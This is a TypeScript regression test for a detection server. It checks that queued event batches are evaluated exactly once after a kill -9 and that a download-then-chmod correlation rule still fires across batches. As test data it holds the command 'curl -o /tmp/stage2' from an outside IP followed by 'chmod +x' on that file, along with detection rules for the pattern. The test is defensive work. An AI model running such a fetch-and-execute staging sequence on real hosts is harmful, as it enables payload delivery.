// Regression guard for detection off the request thread: batches acknowledged but not yet evaluated when the server is
// killed (SIGKILL) are evaluated after the restart, each exactly once (detection checkpoints), and correlation across
// separate batches still fires on the restarted server.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { randomUUID } from 'node:crypto';
import { ApiClient, cleanup, request, startServer, waitFor } from './harness.js';
import { batchBody } from './events.js';

after(cleanup);

const SLOW_RULE = '5e0c1a77-2f1b-4b7e-9a51-7d3f0c2e4b01';
const SEQUENCE_RULE = '5e0c1a77-2f1b-4b7e-9a51-7d3f0c2e4b04';

// The slow rule's regex backtracks on the marker command line (tens of milliseconds per event), so the detection
// worker is still busy with the posted batches when the server is killed: they are acknowledged, not yet evaluated.
const pack = {
  version: '1',
  description: 'detection recovery test pack',
  files: [
    {
      file: 'slow.yml',
      text: `title: Slow marker
id: ${SLOW_RULE}
status: test
level: high
logsource: { product: linux, category: process_creation }
detection:
  selection:
    CommandLine|re: '(a+)+b'
  condition: selection
`,
    },
    {
      file: 'sequence.yml',
      text: `title: Download to tmp
id: 5e0c1a77-2f1b-4b7e-9a51-7d3f0c2e4b02
name: recovery_download_to_tmp
status: test
level: low
logsource: { product: linux, category: process_creation }
detection:
  selection:
    Image|endswith: /curl
    CommandLine|contains: ' /tmp/'
  condition: selection
---
title: Made executable in tmp
id: 5e0c1a77-2f1b-4b7e-9a51-7d3f0c2e4b03
name: recovery_chmod_tmp
status: test
level: low
logsource: { product: linux, category: process_creation }
detection:
  selection:
    Image|endswith: /chmod
    CommandLine|contains|all: ['+x', '/tmp/']
  condition: selection
---
title: Download then chmod in tmp
id: ${SEQUENCE_RULE}
status: test
level: high
correlation:
  type: temporal_ordered
  rules: [recovery_download_to_tmp, recovery_chmod_tmp]
  group-by: [host.id]
  timespan: 5m
`,
    },
  ],
};

test('batches acknowledged just before a kill -9 are evaluated after the restart, once; correlation still fires across batches', async () => {
  const server = await startServer();
  const api = await new ApiClient(server).login();
  const agent = await api.enrollKeys();
  const uploaded = await request(`${server.apiUrl}/api/v1/rule-packs/recovery-test`, { method: 'PUT', body: pack, token: api.token, ca: server.caPem });
  assert.equal(uploaded.status, 200, JSON.stringify(uploaded.body));
  assert.equal(uploaded.body.errors, 0, JSON.stringify(uploaded.body.problems));

  let sequence = 0;
  let pid = 20_000;
  const processStart = (commandLine: string, executable: string) => ({
    '@timestamp': new Date().toISOString(),
    'event.id': randomUUID(),
    'event.sequence': ++sequence,
    'event.category': 'process',
    'event.action': 'start',
    'host.id': agent.agentId,
    'process.pid': ++pid,
    'process.parent.pid': 1,
    'process.executable': executable,
    'process.name': executable.split('/').pop(),
    'process.command_line': commandLine,
    'process.args': commandLine.split(' '),
    'user.name': 'root',
    'user.id': '0',
  });
  const post = async (events: Record<string, unknown>[]) => {
    const reply = await request(`https://127.0.0.1:${server.agentPort}/agent/v1/events`, { raw: batchBody(agent.agentId, events), ca: server.caPem, key: agent.key, cert: agent.cert });
    assert.equal(reply.status, 200, JSON.stringify(reply.body));
  };

  const markers: string[] = [];
  for (let batch = 0; batch < 4; batch++) {
    const events = Array.from({ length: 25 }, () => processStart(`/usr/bin/printf ${'a'.repeat(23)}! xab`, '/usr/bin/printf'));
    markers.push(...events.map((e) => e['event.id'] as string));
    await post(events);
  }
  const before = (await api.get('/api/v1/metrics/detection')).body;
  assert.ok(before.queuedEvents > 0, `the kill must find acknowledged events not yet evaluated: ${JSON.stringify(before)}`);
  await server.stop('SIGKILL');

  await server.start();
  await api.login();
  const recovered = (await api.get('/api/v1/metrics/detection')).body;
  assert.ok(recovered.recoveredEvents > 0 && recovered.recoveredEvents <= markers.length, JSON.stringify(recovered));
  const slowAlerts = async () => (await api.get(`/api/v1/alerts?rule_id=${SLOW_RULE}&limit=1000`)).body as { eventIds: string[]; count: number }[];
  const alerts = await waitFor('an alert for every acknowledged marker event', async () => {
    const list = await slowAlerts();
    return list.length >= markers.length ? list : undefined;
  }, 60_000, 250);
  // One alert per event (each has its own pid): evaluated before the kill or after the restart, never both.
  const seen = alerts.flatMap((a) => a.eventIds);
  assert.deepEqual([...seen].sort(), [...markers].sort());
  assert.ok(alerts.every((a) => a.count === 1), JSON.stringify(alerts.filter((a) => a.count !== 1)));

  await post([processStart('curl -o /tmp/stage2 http://203.0.113.7/s', '/usr/bin/curl')]);
  await post([processStart('chmod +x /tmp/stage2', '/usr/bin/chmod')]);
  const sequenceAlerts = await waitFor('the correlation alert across two batches', async () => {
    const list = (await api.get(`/api/v1/alerts?rule_id=${SEQUENCE_RULE}&limit=10`)).body as { eventIds: string[]; kind: string }[];
    return list.length ? list : undefined;
  }, 30_000, 100);
  assert.equal(sequenceAlerts.length, 1);
  assert.equal(sequenceAlerts[0]!.kind, 'correlation');
  assert.equal(sequenceAlerts[0]!.eventIds.length, 2);
  await server.stop();
});
